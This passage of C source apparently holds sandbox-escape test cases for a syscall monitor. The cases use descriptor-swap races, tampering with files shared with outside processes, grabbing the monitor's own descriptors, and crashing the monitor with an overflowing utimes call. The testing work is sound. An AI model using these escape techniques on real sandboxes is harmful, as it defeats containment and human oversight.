	 * destination while this process is still alive, then writes a line. */
	char go[8];
	if (read(0, go, sizeof go) < 0)
		exit(2);
	contained();
}

/* ---- round 6 ----------------------------------------------------------------------------- */

/* A sibling thread flips descriptor RACE_FD between two open files while the main
 * thread makes a call on RACE_FD: the monitor checks one of them and the call may
 * reach the other. */
#define RACE_FD 57
static volatile int race_stop;
static int race_a, race_b;

static void *race_flipper(void *x) {
	(void)x;
	while (!race_stop) {
		dup2(race_a, RACE_FD);
		dup2(race_b, RACE_FD);
	}
	return NULL;
}

static void race_start(pthread_t *t, int a, int b) {
	race_a = a;
	race_b = b;
	race_stop = 0;
	dup2(a, RACE_FD);
	pthread_create(t, NULL, race_flipper, NULL);
}

static void race_end(pthread_t t) {
	race_stop = 1;
	pthread_join(t, NULL);
}

/* stdin is the outer terminal (the test gives it a pty). The monitor's ioctl checks
 * "is this the outer terminal?" on a private duplicate of the descriptor, then
 * forwards the call on the program's number: a sibling swaps the terminal in between.
 * TCSETS then turns echo off on the shell's terminal. */
static void tty_ioctl_race(void) {
	struct termios t;
	if (tcgetattr(0, &t)) {
		printf("stdin is not a terminal\n");
		exit(2);
	}
	if (!(t.c_lflag & ECHO)) {
		printf("echo is off already\n");
		exit(2);
	}
	int p[2];
	if (pipe(p))
		exit(2);
	struct termios n = t;
	n.c_lflag &= ~ECHO;
	pthread_t th;
	race_start(&th, p[0], 0);
	int tries = 0, wins = 0;
	double end = now() + 20;
	while (tries < 200000 && now() < end) {
		tries++;
		if (ioctl(RACE_FD, TCSETS, &n) == 0) {
			wins++;
			struct termios a;
			if (tcgetattr(0, &a) == 0 && !(a.c_lflag & ECHO))
				break;
		}
	}
	race_end(th);
	struct termios a;
	if (tcgetattr(0, &a) == 0 && !(a.c_lflag & ECHO))
		escaped("TCSETS reached the outer terminal through a descriptor swapped after the check (echo off, after %d tries)", tries);
	printf("%d tries, %d TCSETS returned 0 (on the program's own file)\n", tries, wins);
	contained();
}

/* stdin is the read end of a pipe whose open file a process outside shares: FIOASYNC
 * on it is refused (not_outer on a private duplicate), but the call is forwarded on
 * the program's number: a sibling swaps stdin in after the check, and the outside's
 * open file gets O_ASYNC. */
static void shared_fioasync_race(void) {
	int fl0 = fcntl(0, F_GETFL);
	if (fl0 < 0)
		exit(2);
	if (fl0 & O_ASYNC) {
		printf("stdin has O_ASYNC already\n");
		exit(2);
	}
	int one = 1;
	if (ioctl(0, FIOASYNC, &one) == 0 && (fcntl(0, F_GETFL) & O_ASYNC))
		escaped("FIOASYNC set O_ASYNC on the shared open file directly");
	int p[2];
	if (pipe(p))
		exit(2);
	pthread_t th;
	race_start(&th, p[0], 0);
	int tries = 0;
	double end = now() + 20;
	while (tries < 200000 && now() < end) {
		tries++;
		if (ioctl(RACE_FD, FIOASYNC, &one) == 0 && (fcntl(0, F_GETFL) & O_ASYNC))
			break;
	}
	race_end(th);
	int fl = fcntl(0, F_GETFL);
	if (fl >= 0 && (fl & O_ASYNC))
		escaped("O_ASYNC set on the open file shared with a process outside (flags %#o, after %d tries)", fl, tries);
	printf("%d tries\n", tries);
	contained();
}

/* stdin is a file outside the writable tree on which a process outside holds a read
 * lease, through the very open file it handed over. Taking a lease is refused on such
 * a file, but F_SETLEASE with F_UNLCK is forwarded as it is: it removes the lease of
 * whoever holds it through that open file. */
static void shared_lease_unlock(void) {
	int before = fcntl(0, F_GETLEASE);
	int r = fcntl(0, F_SETLEASE, F_UNLCK);
	int e = errno;
	int after = fcntl(0, F_GETLEASE);
	printf("stdin's lease %d; F_SETLEASE(F_UNLCK): %s; lease now %d\n", before, r ? strerror(e) : "ok", after);
	if (before != F_UNLCK && after == F_UNLCK)
		escaped("removed the lease a process outside holds on a file outside the writable tree (%d -> F_UNLCK)", before);
	contained();
}

/* stdin is a directory a process outside opened and made itself the owner of (its
 * SIGIO). F_SETOWN is refused on such open files, but F_NOTIFY (forwarded as it is)
 * makes the caller the open file's owner. */
static void shared_dnotify_owner(void) {
	int before = fcntl(0, F_GETOWN);
	int r = fcntl(0, F_NOTIFY, DN_CREATE | DN_MULTISHOT);
	int e = errno;
	int after = fcntl(0, F_GETOWN);
	printf("stdin's owner %d; F_NOTIFY: %s; owner now %d (this process %d)\n", before, r ? strerror(e) : "ok", after, getpid());
	if (after != before && after == getpid())
		escaped("F_NOTIFY made the sandbox the owner of an open file a process outside shares (owner %d -> %d)", before, after);
	contained();
}

/* stdin is the read end of a pipe whose open file a process outside shares and holds
 * an exclusive flock on. A pipe is "the program's own" to the lock check, so
 * flock(LOCK_UN) is forwarded, and releases the outside's lock (flock locks belong to
 * the open file). */
static void shared_flock_unlock(void) {
	int r = flock(0, LOCK_UN);
	int e = errno;
	printf("flock(0, LOCK_UN): %s\n", r ? strerror(e) : "ok");
	struct flock fl = { .l_type = F_UNLCK, .l_whence = SEEK_SET };
	r = fcntl(0, F_OFD_SETLK, &fl);
	e = errno;
	printf("fcntl(0, F_OFD_SETLK, F_UNLCK): %s\n", r ? strerror(e) : "ok");
	/* Only the outside sees whether its locks are still there. */
	contained();
}

/* stdin is a file outside the writable tree opened for appending by a process outside.
 * pwritev2 flags are forwarded as they are: RWF_NOAPPEND (Linux 6.9) writes at the
 * offset given, over what others wrote. */
static void inherited_append_noappend(void) {
	const char msg[] = "OVERWRITTEN";
	struct iovec v = { (void *)msg, sizeof msg - 1 };
	ssize_t r = syscall(SYS_pwritev2, 0, &v, 1, 0L, 0L, 0x20 /* RWF_NOAPPEND */);
	int e = errno;
	printf("pwritev2(0, .., offset 0, RWF_NOAPPEND): %s\n", r < 0 ? strerror(e) : "written");
	/* The test reads the file. */
	contained();
}

/* The sandbox leaves a forked child behind and waits; the test kills the supervisor
 * (`dune sandbox`) with SIGKILL. The sandbox's first process dies with it (its parent
 * death signal), and the cgroup is killed only by a live supervisor: the child
 * (no parent death signal: it is cleared at fork) goes on, and shows it by making
 * files in the writable tree. */
static void outlive_supervisor(const char *rw) {
	pid_t c = fork();
	if (c < 0)
		exit(2);
	if (c == 0) {
		char p[4096];
		for (int i = 0; i < 80; i++) {
			snprintf(p, sizeof p, "%s/alive-%03d", rw, i);
			close(open(p, O_WRONLY | O_CREAT, 0644));
			usleep(100000);
		}
		_exit(0);
	}
	prctl(PR_SET_PDEATHSIG, 0);
	printf("ready\n");
	fflush(stdout);
	sleep(12);
	contained();
}

/* The runtime hides its and the monitor's descriptors from a listing of this process's
 * /proc/<pid>/fd: after getdents64 it reads the listed directory's link through the
 * program's descriptor number, again. A sibling swaps another directory in between
 * (the read was of /proc/self/fd, the link says "/"): the listing is not filtered. */
static void proc_fd_listing_race(void) {
	struct rlimit rl;
	if (getrlimit(RLIMIT_NOFILE, &rl))
		exit(2);
	int fdd = open("/proc/self/fd", O_RDONLY | O_DIRECTORY);
	int root = open("/", O_RDONLY | O_DIRECTORY);
	if (fdd < 0 || root < 0)
		exit(2);
	pthread_t th;
	race_start(&th, fdd, root);
	static char buf[16384];
	int tries = 0;
	double end = now() + 20;
	long seen = -1;
	while (tries < 400000 && now() < end && seen < 0) {
		tries++;
		lseek(RACE_FD, 0, SEEK_SET);
		long n = syscall(SYS_getdents64, RACE_FD, buf, sizeof buf);
		for (long at = 0; n > 0 && at < n;) {
			unsigned short reclen = *(unsigned short *)(buf + at + 16);
			const char *nm = buf + at + 19;
			if (reclen == 0)
				break;
			char *e;
			long v = strtol(nm, &e, 10);
			if (*nm && !*e && v >= (long)rl.rlim_cur) {
				seen = v;
				break;
			}
			at += reclen;
		}
	}
	race_end(th);
	if (seen >= 0)
		escaped("a listing of /proc/self/fd named descriptor %ld, at or above the program's limit %lu (after %d tries)", seen, (unsigned long)rl.rlim_cur, tries);
	printf("%d tries\n", tries);
	contained();
}

/* poll() takes any descriptor number: those of the monitor and the runtime (above the
 * program's RLIMIT_NOFILE) answer, POLLNVAL only for numbers that are not open, and
 * their readiness shows (the black hole, children's pidfds, the audit descriptor). */
static void poll_monitor_fds(void) {
	struct rlimit rl;
	if (getrlimit(RLIMIT_NOFILE, &rl))
		exit(2);
	long lo = rl.rlim_cur, n = 8192;
	struct pollfd *p = calloc(n, sizeof *p);
	if (!p)
		exit(2);
	for (long i = 0; i < n; i++) {
		p[i].fd = lo + i;
		p[i].events = POLLIN | POLLOUT;
	}
	int r = poll(p, n, 0);
	int e = errno;
	long open_ = 0, first = -1;
	for (long i = 0; r >= 0 && i < n; i++)
		if (p[i].revents && !(p[i].revents & POLLNVAL)) {
			open_++;
			if (first < 0)
				first = i;
		}
	printf("poll of %ld numbers from %ld: %s\n", n, lo, r < 0 ? strerror(e) : "ok");
	if (open_ > 0)
		escaped("poll reports %ld open descriptors at or above the program's limit %ld (first %ld, revents %#x)", open_, lo, lo + first, p[first].revents);
	contained();
}

/* Descriptor 3 is a terminal a process outside shares (a pty the test made); the
 * standard streams are not terminals. The monitor knows as "the outer terminal" only
 * the terminals among descriptors 0 to 2 (and /dev/tty, /dev/console): the terminal
 * on descriptor 3 is an open file the sandbox was started with, but its modes are
 * changed as if it were a pty the program made. */
static void inherited_tty_fd3(void) {
	struct termios t;
	if (tcgetattr(3, &t)) {
		printf("descriptor 3 is not a terminal\n");
		exit(2);
	}
	if (!(t.c_lflag & ECHO)) {
		printf("echo is off already\n");
		exit(2);
	}
	t.c_lflag &= ~ECHO;
	int r = tcsetattr(3, TCSANOW, &t);
	int e = errno;
	struct termios a;
	if (r == 0 && tcgetattr(3, &a) == 0 && !(a.c_lflag & ECHO))
		escaped("turned echo off on a terminal the sandbox was started with (descriptor 3)");
	printf("tcsetattr(3): %s\n", r ? strerror(e) : "ok");
	struct winsize w = { .ws_row = 3, .ws_col = 7 };
	if (ioctl(3, TIOCSWINSZ, &w) == 0)
		escaped("changed the window size of a terminal the sandbox was started with (descriptor 3)");
	contained();
}

/* stdin is one end of a unix datagram socket pair whose open file a process outside
 * shares (and sends through to its peer). connect(AF_UNSPEC) is checked only on IP
 * sockets: on a unix one it is forwarded, and dissolves the outside's association. */
static void shared_unix_disconnect(void) {
	struct sockaddr sa = { .sa_family = AF_UNSPEC };
	int r = connect(0, &sa, sizeof sa.sa_family);
	int e = errno;
	ssize_t s = send(0, "x", 1, MSG_DONTWAIT);
	int se = errno;
	printf("connect(0, AF_UNSPEC): %s; send(0): %s\n", r ? strerror(e) : "ok", s < 0 ? strerror(se) : "sent");
	if (r == 0 && s < 0 && se == ENOTCONN)
		escaped("dissolved the association of a socket a process outside shares (its sends now fail: %s)", strerror(se));
	contained();
}

/* stdin is a timerfd a process outside armed and shares: timerfd_settime is forwarded
 * on any descriptor, and disarms it. */
static void shared_timerfd_disarm(void) {
	struct itimerspec cur, zero = { 0 };
	if (syscall(SYS_timerfd_gettime, 0, &cur)) {
		printf("stdin is not a timerfd\n");
		exit(2);
	}
	int r = syscall(SYS_timerfd_settime, 0, 0, &zero, NULL);
	int e = errno;
	struct itimerspec now_;
	syscall(SYS_timerfd_gettime, 0, &now_);
	printf("timer had %lds left; timerfd_settime(0, disarm): %s; now %lds\n", (long)cur.it_value.tv_sec, r ? strerror(e) : "ok", (long)now_.it_value.tv_sec);
	if (r == 0 && (cur.it_value.tv_sec || cur.it_value.tv_nsec) && !now_.it_value.tv_sec && !now_.it_value.tv_nsec)
		escaped("disarmed a timer a process outside armed (a timerfd it shares)");
	contained();
}

/* stdin is a signalfd a process outside made (for SIGUSR1) and shares: signalfd4 on
 * an existing descriptor changes that signalfd's mask for everyone who holds it. */
static void shared_signalfd_mask(void) {
	sigset_t s;
	sigemptyset(&s);
	sigaddset(&s, SIGUSR2);
	int r = syscall(SYS_signalfd4, 0, &s, 8, 0);
	int e = errno;
	printf("signalfd4(0, {SIGUSR2}): %s\n", r < 0 ? strerror(e) : "ok");
	/* The test reads the mask from outside. */
	contained();
}

/* Descriptor 3 is an epoll instance a process outside made and waits on; stdin is an
 * eventfd it also holds, signalled. epoll_ctl is forwarded on any descriptor: the
 * outside's epoll set gets a file it never added (and reports it ready). */
static void shared_epoll_add(void) {
	struct epoll_event ev = { .events = EPOLLIN, .data.u64 = 0x5eed };
	int r = epoll_ctl(3, EPOLL_CTL_ADD, 0, &ev);
	int e = errno;
	printf("epoll_ctl(3, ADD, 0): %s\n", r ? strerror(e) : "ok");
	if (r == 0)
		escaped("added a file to the epoll set of a process outside (its descriptor 3)");
	contained();
}

/* ---- round 7 ----------------------------------------------------------------------------- */

/* stdin is a unix stream socket; a process outside has sent, with SCM_RIGHTS, four
 * descriptors of its own: a pipe's read end, a pty's slave, an armed timerfd and a
 * memfd with data. None was open when the sandbox started, so the monitor's "open
 * file shared with the outside" checks (a snapshot of inherited inodes) miss them. */
static void received_fds_shared(void) {
	char byte;
	struct iovec io = { &byte, 1 };
	union {
		struct cmsghdr h;
		char b[CMSG_SPACE(4 * sizeof(int))];
	} u;
	memset(&u, 0, sizeof u);
	struct msghdr m = { 0 };
	m.msg_iov = &io;
	m.msg_iovlen = 1;
	m.msg_control = u.b;
	m.msg_controllen = sizeof u.b;
	ssize_t r = recvmsg(0, &m, 0);
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	if (r != 1 || !c || c->cmsg_type != SCM_RIGHTS || c->cmsg_len < CMSG_LEN(4 * sizeof(int))) {
		printf("no descriptors received (recvmsg %zd: %s)\n", r, strerror(errno));
		exit(2);
	}
	int fds[4];
	memcpy(fds, CMSG_DATA(c), sizeof fds);
	int pipe_r = fds[0], pty = fds[1], tfd = fds[2], mfd = fds[3];
	printf("received pipe %d, pty %d, timerfd %d, memfd %d\n", pipe_r, pty, tfd, mfd);
	int got = 0;
	/* The pipe: status flags and size are the outside's open file's / pipe's. */
	int fl = fcntl(pipe_r, F_GETFL);
	int rr = fcntl(pipe_r, F_SETFL, fl | O_NONBLOCK);
	printf("F_SETFL O_NONBLOCK on the received pipe: %s (flags now %#o)\n", rr ? strerror(errno) : "ok", fcntl(pipe_r, F_GETFL));
	/* Seen from here the flag is set either way: the monitor may have given this
	 * process an open file of the pipe of its own. Whether the outside's open file
	 * changed, the test checks from outside. */
	int sz = fcntl(pipe_r, F_SETPIPE_SZ, 4096);
	printf("F_SETPIPE_SZ 4096 on the received pipe: %s (size now %d)\n", sz < 0 ? strerror(errno) : "ok", fcntl(pipe_r, F_GETPIPE_SZ));
	if (sz >= 0 && fcntl(pipe_r, F_GETPIPE_SZ) == 4096)
		got++, printf("ESCAPED: %s: shrank a pipe a process outside shares\n", name);
	/* The pty: the outside's terminal. */
	struct termios t;
	if (tcgetattr(pty, &t) == 0) {
		t.c_lflag &= ~ECHO;
		int tr = tcsetattr(pty, TCSANOW, &t);
		struct termios t2;
		tcgetattr(pty, &t2);
		printf("TCSETS (echo off) on the received pty: %s\n", tr ? strerror(errno) : "ok");
		if (tr == 0 && !(t2.c_lflag & ECHO))
			got++, printf("ESCAPED: %s: echo turned off on a terminal a process outside uses\n", name);
	} else
		printf("tcgetattr on the received pty: %s\n", strerror(errno));
	/* The timer. */
	struct itimerspec cur, zero = { 0 }, after;
	syscall(SYS_timerfd_gettime, tfd, &cur);
	int tr = syscall(SYS_timerfd_settime, tfd, 0, &zero, NULL);
	syscall(SYS_timerfd_gettime, tfd, &after);
	printf("timerfd_settime (disarm) on the received timer: %s (%lds before, %lds after)\n", tr ? strerror(errno) : "ok", (long)cur.it_value.tv_sec, (long)after.it_value.tv_sec);
	if (tr == 0 && cur.it_value.tv_sec && !after.it_value.tv_sec && !after.it_value.tv_nsec)
		got++, printf("ESCAPED: %s: disarmed a timer a process outside armed\n", name);
	/* The memfd: what the outside wrote is erased, and it is sealed against it. */
	struct stat st;
	fstat(mfd, &st);
	int fr = ftruncate(mfd, 0);
	int se = fcntl(mfd, F_ADD_SEALS, F_SEAL_WRITE | F_SEAL_GROW | F_SEAL_SHRINK);
	struct stat st2;
	fstat(mfd, &st2);
	printf("ftruncate(memfd, 0): %s (size %lld -> %lld); F_ADD_SEALS: %s\n", fr ? strerror(errno) : "ok", (long long)st.st_size, (long long)st2.st_size, se ? "refused" : "ok");
	if (fr == 0 && st.st_size > 0 && st2.st_size == 0)
		got++, printf("ESCAPED: %s: erased a memfd a process outside wrote\n", name);
	if (se == 0)
		got++, printf("ESCAPED: %s: sealed a memfd a process outside writes\n", name);
	fflush(stdout);
	if (got)
		exit(1);
	contained();
}

/* A FIFO in the read-only tree that a process outside holds open (and uses). The
 * program may read it; F_SETPIPE_SZ changes the pipe itself, for the outside too. */
static void ro_fifo_pipe_size(const char *path) {
	int f = open(path, O_RDONLY | O_NONBLOCK);
	if (f < 0) {
		printf("open %s: %s\n", path, strerror(errno));
		contained();
	}
	int before = fcntl(f, F_GETPIPE_SZ);
	int r = fcntl(f, F_SETPIPE_SZ, 4096);
	int after = fcntl(f, F_GETPIPE_SZ);
	printf("F_SETPIPE_SZ 4096 on the read-only tree's FIFO: %s (size %d -> %d)\n", r < 0 ? strerror(errno) : "ok", before, after);
	if (r >= 0 && after == 4096 && before != 4096)
		escaped("shrank the pipe of a FIFO outside the writable tree that a process outside holds open");
	contained();
}

/* stdin is a memfd a process outside wrote and handed over opened O_WRONLY|O_APPEND. */
static void inherited_append_memfd(void) {
	struct stat st;
	fstat(0, &st);
	int fl = fcntl(0, F_GETFL);
	int r = ftruncate(0, 0);
	int e = errno;
	struct stat st2;
	fstat(0, &st2);
	printf("stdin flags %#o, size %lld; ftruncate(0, 0): %s; size now %lld\n", fl, (long long)st.st_size, r ? strerror(e) : "ok", (long long)st2.st_size);
	int got = 0;
	if (r == 0 && st.st_size > 0 && st2.st_size == 0)
		got++, printf("ESCAPED: %s: cut a memfd handed over for appending only\n", name);
	if (write(0, "0123456789abcdef", 16) != 16)
		printf("append: %s\n", strerror(errno));
	r = fallocate(0, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 8);
	printf("fallocate(PUNCH_HOLE, 0, 8): %s\n", r ? strerror(errno) : "ok");
	if (r == 0)
		got++, printf("ESCAPED: %s: punched a hole into a memfd handed over for appending only\n", name);
	fflush(stdout);
	if (got)
		exit(1);
	contained();
}

/* The monitor serves /proc/self/maps after reading the real one with
 * std::fs::read_to_string, whose descriptor is born at the lowest free number and
 * is not pinned. A sibling duplicates that number meanwhile. */
static volatile int maps_stop;
static int maps_low;
static char maps_got[1 << 16];
static ssize_t maps_got_len;

static void *maps_grabber(void *x) {
	(void)x;
	while (!maps_stop) {
		int d = fcntl(maps_low, F_DUPFD_CLOEXEC, 200);
		if (d < 0)
			continue;
		struct statfs sf;
		if (fstatfs(d, &sf) == 0 && sf.f_type == 0x9fa0 /* PROC_SUPER_MAGIC */) {
			ssize_t n = pread(d, maps_got, sizeof maps_got - 1, 0);
			if (n > 0) {
				maps_got[n] = 0;
				maps_got_len = n;
				maps_stop = 1;
			}
		}
		close(d);
	}
	return NULL;
}

static int count_lines(const char *b) {
	int n = 0;
	for (; *b; b++)
		n += *b == '\n';
	return n;
}

static void maps_fd_race(void) {
	static char served[1 << 16];
	int f = open("/proc/self/maps", O_RDONLY);
	if (f < 0) {
		printf("open /proc/self/maps: %s\n", strerror(errno));
		contained();
	}
	ssize_t n = read(f, served, sizeof served - 1);
	served[n > 0 ? n : 0] = 0;
	close(f);
	maps_low = dup(0);
	close(maps_low);
	printf("served maps: %d lines; the monitor's descriptor will be born at %d\n", count_lines(served), maps_low);
	pthread_t t;
	pthread_create(&t, NULL, maps_grabber, NULL);
	double t0 = now();
	long tries = 0;
	while (!maps_stop && now() - t0 < 10) {
		int g = open("/proc/self/maps", O_RDONLY);
		if (g >= 0)
			close(g);
		tries++;
	}
	/* The runtime reads the map too: after an mmap, and on a fault it has to look up. */
	while (!maps_stop && now() - t0 < 20) {
		char *p = mmap(NULL, 3 << 12, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p != MAP_FAILED) {
			p[0] = 1, p[8192] = 2;
			munmap(p, 3 << 12);
		}
		tries++;
	}
	maps_stop = 1;
	pthread_join(t, NULL);
	printf("%ld opens and maps\n", tries);
	if (maps_got_len > 0) {
		int lines = count_lines(maps_got);
		char *l = strstr(maps_got, "/dune\n");
		char *start = l;
		while (start && start > maps_got && start[-1] != '\n')
			start--;
		printf("grabbed a procfs descriptor: %d lines (served %d)%s\n", lines, count_lines(served), l ? "" : "");
		if (l) {
			l[5] = 0;
			escaped("read the real /proc/self/maps through the monitor's descriptor: %s", start);
		}
		if (lines > count_lines(served))
			escaped("read the real /proc/self/maps through the monitor's descriptor: %d lines, the program's own %d", lines, count_lines(served));
	}
	contained();
}

/* The path walk's descriptors are born at the lowest free number too (O_PATH, inside
 * the policy's trees). A sibling duplicates whatever appears there while the main
 * thread makes calls that walk (stat, open, mkdir, a device no rule names) and tries
 * to get more from each than its own calls get: reopen a device or a read-only file
 * for writing, create in a read-only directory, link a read-only file into the
 * writable tree. Round 7's finding, second half. */
static volatile int walk_stop;
static int walk_low;
static long walk_grabbed, walk_kinds[4], walk_tries, walk_dups;
static char walk_rw[512], walk_ro[512];
static char walk_escape[512];
static struct stat walk_rw_st;

static void *walk_grabber(void *x) {
	(void)x;
	while (!walk_stop) {
		for (int at = walk_low; at < walk_low + 4 && !walk_stop; at++) {
			int d = fcntl(at, F_DUPFD_CLOEXEC, 100);
			walk_tries++;
			if (d < 0)
				continue;
			walk_dups++;
			struct stat st;
			char link[64], self[600];
			snprintf(link, sizeof link, "/proc/self/fd/%d", d);
			/* The link may not be readable here: the message names the number then. */
			ssize_t n = readlink(link, self, sizeof self - 1);
			if (n <= 0)
				n = snprintf(self, sizeof self, "descriptor %d", at);
			self[n] = 0;
			if (fstat(d, &st) != 0 || S_ISFIFO(st.st_mode) || S_ISSOCK(st.st_mode) || !(st.st_mode & S_IFMT)) {
				close(d);
				continue;
			}
			walk_grabbed++;
			int in_rw = S_ISDIR(st.st_mode) && st.st_dev == walk_rw_st.st_dev && st.st_ino == walk_rw_st.st_ino;
			if (S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode)) {
				walk_kinds[0]++;
				int f = open(link, O_RDONLY);
				if (f >= 0)
					snprintf(walk_escape, sizeof walk_escape, "opened the device %s no rule names through a walk descriptor", self), walk_stop = 1;
			} else if (S_ISDIR(st.st_mode)) {
				walk_kinds[1]++;
				if (!in_rw && mkdirat(d, "walk-grabbed-dir", 0755) == 0)
					snprintf(walk_escape, sizeof walk_escape, "made a directory in %s through a walk descriptor", self), walk_stop = 1;
				int f = in_rw ? -1 : openat(d, "walk-grabbed-file", O_CREAT | O_WRONLY, 0644);
				if (f >= 0)
					snprintf(walk_escape, sizeof walk_escape, "created a file in %s through a walk descriptor", self), walk_stop = 1;
			} else if (S_ISREG(st.st_mode) && !in_rw) {
				walk_kinds[2]++;
				int f = open(link, O_WRONLY | O_APPEND);
				if (f >= 0 && write(f, "X", 1) == 1)
					snprintf(walk_escape, sizeof walk_escape, "wrote to the read-only %s through a walk descriptor", self), walk_stop = 1;
				char to[600];
				snprintf(to, sizeof to, "%s/walk-linked", walk_rw);
				if (linkat(d, "", AT_FDCWD, to, AT_EMPTY_PATH) == 0) {
					int g = open(to, O_WRONLY | O_APPEND);
					if (g >= 0 && write(g, "Y", 1) == 1)
						snprintf(walk_escape, sizeof walk_escape, "linked the read-only %s into the writable tree and wrote it", self), walk_stop = 1;
					unlink(to);
				}
			} else {
				walk_kinds[3]++;
			}
			close(d);
		}
	}
	return NULL;
}

static void walk_fd_grab(const char *ro, const char *rw) {
	snprintf(walk_ro, sizeof walk_ro, "%s", ro);
	snprintf(walk_rw, sizeof walk_rw, "%s", rw);
	stat(rw, &walk_rw_st);
	char marker[600], made[600], dev_probe[64] = "/dev/mem";
	snprintf(marker, sizeof marker, "%s/marker", ro);
	snprintf(made, sizeof made, "%s/walk-new", rw);
	if (access("/dev/mem", F_OK) != 0)
		snprintf(dev_probe, sizeof dev_probe, "/dev/kmsg");
	walk_low = dup(0);
	close(walk_low);
	pthread_t t;
	pthread_create(&t, NULL, walk_grabber, NULL);
	double t0 = now();
	long calls = 0;
	struct stat st;
	while (!walk_stop && now() - t0 < 12) {
		stat(marker, &st);
		int f = open(marker, O_RDONLY);
		if (f >= 0)
			close(f);
		f = open(dev_probe, O_RDONLY);
		if (f >= 0)
			close(f);
		mkdir(made, 0755);
		rmdir(made);
		calls++;
	}
	walk_stop = 1;
	pthread_join(t, NULL);
	printf("low %d, %ld tries, %ld duplicates\n", walk_low, walk_tries, walk_dups);
	printf("%ld rounds of calls; grabbed %ld walk descriptors (devices %ld, directories %ld, read-only files %ld, other %ld)\n", calls, walk_grabbed, walk_kinds[0], walk_kinds[1], walk_kinds[2], walk_kinds[3]);
	if (walk_escape[0])
		escaped("%s", walk_escape);
	char buf[64] = { 0 };
	int f = open(marker, O_RDONLY);
	if (f >= 0 && read(f, buf, sizeof buf - 1) > 0 && strcmp(buf, "read-only\n"))
		escaped("the read-only marker now holds %s", buf);
	contained();
}

/* stdin is the outer terminal: F_SETFL checks O_NONBLOCK and O_ASYNC only. */
static void outer_tty_setfl(void) {
	if (!isatty(0)) {
		printf("stdin is not a terminal\n");
		exit(2);
	}
	int fl = fcntl(0, F_GETFL);
	int r = fcntl(0, F_SETFL, fl | O_APPEND);
	int e = errno;
	int now_ = fcntl(0, F_GETFL);
	printf("F_SETFL O_APPEND on the outer terminal: %s (flags %#o -> %#o)\n", r ? strerror(e) : "ok", fl, now_);
	if (r == 0 && (now_ & O_APPEND) && !(fl & O_APPEND))
		escaped("changed the status flags of the terminal's open file the shell shares (O_APPEND)");
	contained();
}

/* stdin: a pipe's read end a process outside holds; descriptor 3: a memfd it holds. */
static void inherited_pipe_fchmod(void) {
	int got = 0;
	struct stat a, b;
	for (int f = 0; f <= 3; f += 3) {
		fstat(f, &a);
		int r = fchmod(f, (a.st_mode ^ 077) & 0777);
		int e = errno;
		struct timespec ts[2] = { { 1, 0 }, { 1, 0 } };
		int u = futimens(f, ts);
		int e2 = errno;
		fstat(f, &b);
		printf("descriptor %d (mode %#o): fchmod: %s; futimens: %s; mode now %#o, mtime %ld\n", f, a.st_mode, r ? strerror(e) : "ok", u ? strerror(e2) : "ok", b.st_mode, (long)b.st_mtime);
		if (r == 0 && (b.st_mode & 0777) != (a.st_mode & 0777))
			got++, printf("ESCAPED: %s: changed the mode of an inode (descriptor %d) a process outside shares\n", name, f);
		if (u == 0 && b.st_mtime == 1)
			got++, printf("ESCAPED: %s: changed the times of an inode (descriptor %d) a process outside shares\n", name, f);
	}
	fflush(stdout);
	if (got)
		exit(1);
	contained();
}

/* Descriptor 3: an epoll set a process outside shares, holding an eventfd (ready)
 * with EPOLLIN | EPOLLONESHOT. */
static void shared_epoll_oneshot(void) {
	struct epoll_event e;
	int n = epoll_wait(3, &e, 1, 0);
	printf("epoll_wait on the shared epoll set: %d event(s)%s\n", n, n < 0 ? strerror(errno) : "");
	if (n == 1) {
		int again = epoll_wait(3, &e, 1, 0);
		printf("again: %d event(s)\n", again);
		if (again == 0)
			escaped("took a one-shot event of an epoll set a process outside shares: its item is disarmed");
	}
	contained();
}

/* Descriptor 3: an inotify instance a process outside shares (watch 1 on a directory). */
static void shared_inotify_rm_watch(void) {
	int r = syscall(SYS_inotify_rm_watch, 3, 1);
	int e = errno;
	printf("inotify_rm_watch(3, 1) on the shared instance: %s\n", r ? strerror(e) : "ok");
	int w = syscall(SYS_inotify_add_watch, 3, "/", 0x100 /* IN_CREATE */);
	printf("inotify_add_watch(3, \"/\") on the shared instance: %d%s%s\n", w, w < 0 ? " " : "", w < 0 ? strerror(errno) : "");
	if (r == 0)
		escaped("removed the watch of an inotify instance a process outside shares");
	if (w > 0)
		escaped("added a watch to an inotify instance a process outside shares");
	contained();
}

/* Descriptor 3: a pty master a process outside holds (its slave unlocked). */
static void inherited_ptmx_lock(void) {
	int one = 1;
	int r = ioctl(3, TIOCSPTLCK, &one);
	printf("TIOCSPTLCK 1 on the shared pty master: %s\n", r ? strerror(errno) : "ok");
	if (r == 0)
		escaped("locked a pty a process outside uses: its slave can no longer be opened");
	contained();
}

/* utimes(RW/f, {{0, huge}, {0, huge}}) in a child: the monitor multiplies tv_usec by
 * 1000 without a check. */
static void utimes_overflow(const char *rw) {
	char path[4096];
	snprintf(path, sizeof path, "%s/utimes-file", rw);
	int f = open(path, O_CREAT | O_WRONLY, 0644);
	if (f < 0) {
		printf("create %s: %s\n", path, strerror(errno));
		exit(2);
	}
	close(f);
	fflush(stdout);
	pid_t c = fork();
	if (c == 0) {
		struct timeval tv[2] = { { 0, 0x7fffffffffffffffL }, { 0, 0x7fffffffffffffffL } };
		long r = syscall(SYS_utimes, path, tv);
		printf("utimes with tv_usec 2^63-1: %ld (%s)\n", r, r ? strerror(errno) : "ok");
		fflush(stdout);
		_exit(0);
	}
	int st = 0;
	waitpid(c, &st, 0);
	printf("child: %s %d\n", WIFSIGNALED(st) ? "killed by signal" : "exited", WIFSIGNALED(st) ? WTERMSIG(st) : WEXITSTATUS(st));
	if (WIFSIGNALED(st) || WEXITSTATUS(st) != 0)
		escaped("the monitor of the process that called utimes died (%s %d)", WIFSIGNALED(st) ? "signal" : "status", WIFSIGNALED(st) ? WTERMSIG(st) : WEXITSTATUS(st));
	contained();
}

/* Receives two descriptors (a pipe's read and write ends) on stdin. */
static void received_pipe_sigio_kill(void) {
	char byte;
	struct iovec io = { &byte, 1 };
	union {
		struct cmsghdr h;
		char b[CMSG_SPACE(2 * sizeof(int))];
	} u;
	memset(&u, 0, sizeof u);
	struct msghdr m = { 0 };
	m.msg_iov = &io;
	m.msg_iovlen = 1;
	m.msg_control = u.b;
	m.msg_controllen = sizeof u.b;
	ssize_t r = recvmsg(0, &m, 0);
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
